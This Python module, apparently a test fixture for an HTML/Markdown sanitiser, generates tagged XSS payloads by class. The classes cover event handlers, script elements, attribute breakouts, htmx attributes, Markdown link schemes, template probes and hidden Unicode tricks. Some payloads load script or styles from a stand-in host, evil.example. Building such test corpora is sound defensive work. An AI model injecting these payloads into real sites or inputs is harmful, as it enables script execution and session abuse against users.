"""Strings that try to become more than words, by class; each carries a mark of its own, so that it is found again.

Written here after what the classes are, not copied from a list. `alert` is what a browser shows when one succeeds.
"""

MARK = "zq-"  # no token of ours holds a hyphen
TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "object data=x")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://x/1",
    "filesystem:https://x/1",
    "//evil.example/x.js",
)


def _handlers():
    """An element with something to do when something happens."""
    for tag in TAGS:
        for event in EVENTS:
            yield f"<{tag} {event}=alert(1)>"


def _elements():
    """Elements that act by being there."""
    yield from (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</script>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<embed src=javascript:alert(1)>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<form action=javascript:alert(1)><button>go</button></form>",
        "<button formaction=javascript:alert(1)>go</button>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea></textarea><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><script>alert(1)</script>",
    )


def _leaving_an_attribute():
    """Out of the quotes in which a page may have put it."""
    for quote in ('"', "'", "`", "&quot;", "\u201d", ""):
        yield f"{quote}><img src=x onerror=alert(1)>"
        yield f"{quote} onmouseover=alert(1) autofocus onfocus=alert(1) x={quote}"


def _htmx():
    """What htmx would obey."""
    yield from (
        "<div hx-get=/accounts/logout/ hx-trigger=load></div>",
        "<div data-hx-post=/accounts/logout/ data-hx-trigger=load></div>",
        "<a hx-on::load=alert(1)>x</a>",
        "<div hx-on:click='alert(1)'>x</div>",
        "<b hx-vals='js:{x:alert(1)}' hx-get=/ hx-trigger=load>x</b>",
        "<i hx-headers='js:{x:alert(1)}' hx-get=/ hx-trigger=load>x</i>",
        "<p hx-ext=rows hx-swap-oob=true id=main>x</p>",
        "<div hx-disable hx-boost=true><a href=javascript:alert(1)>x</a></div>",
        '<a data-ref="PIR-1" onclick=alert(1)>PIR-1</a>',
        '"><a data-ref="event-1" hx-get=/ hx-trigger=load>x</a>',
    )


def _markdown():
    """Through the door that Markdown is."""
    for scheme in SCHEMES:
        yield f"[words]({scheme})"
        yield f"![words]({scheme})"
        yield f"<{scheme.strip()}>"
    yield from (
        "[words][1]\n\n[1]: javascript:alert(1)",
        '[words](https://x/ "\\" onmouseover=alert(1)")',
        '![a](x" onerror="alert(1))',
        '![" onerror=alert(1) x="](file-1)',
        '[a](event-1" onclick="alert(1))',
        "`<img src=x onerror=alert(1)>`",
        '```html" onclick=alert(1)\n<script>alert(1)</script>\n```',
        "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
        "- [ ] <img src=x onerror=alert(1)>",
        "> <svg onload=alert(1)>",
        "**<svg/onload=alert(1)>**",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
        "\\<script>alert(1)\\</script>",
    )


def _templates():
    """What another engine would carry out."""
    yield from (
        "{{ 7|add:7 }}",
        "{% load x %}",
        "${alert(1)}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{constructor.constructor('alert(1)')()}}",
    )


def _unseen():
    """Signs that hide, turn or end what stands around them."""
    yield from (
        "safe\u202egnp.exe",
        "\u2066if admin\u2069 \u2066",
        "zero\u200bwidth\ufeff\u2060",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<img\x0csrc=x\x0conerror=alert(1)>",
        "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
        "\ufffe<script>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
    )


CLASSES = (_handlers, _elements, _leaving_an_attribute, _htmx, _markdown, _templates, _unseen)
# Each with its mark inside of what it tries: alert(1) tells which one it was.
STRINGS = [
    f"{MARK}{number}q {words.replace('alert(1)', f'alert(`{MARK}{number}q`)')}"
    for number, words in enumerate(words for made in CLASSES for words in made())
]
